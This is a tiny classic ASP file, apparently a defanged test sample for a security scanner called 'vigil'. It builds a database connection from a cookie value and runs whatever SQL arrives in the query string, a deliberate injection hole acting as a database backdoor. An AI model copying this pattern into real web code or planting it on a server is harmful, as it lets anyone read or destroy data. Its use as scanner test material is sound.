<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Dim db, sql
Set db = Server.CreateObject("ADODB.Connection")
db.ConnectionString = Request.Cookies("dsn")
db.Open
sql = Request.QueryString("s")
Set r = db.Execute(sql)
%>
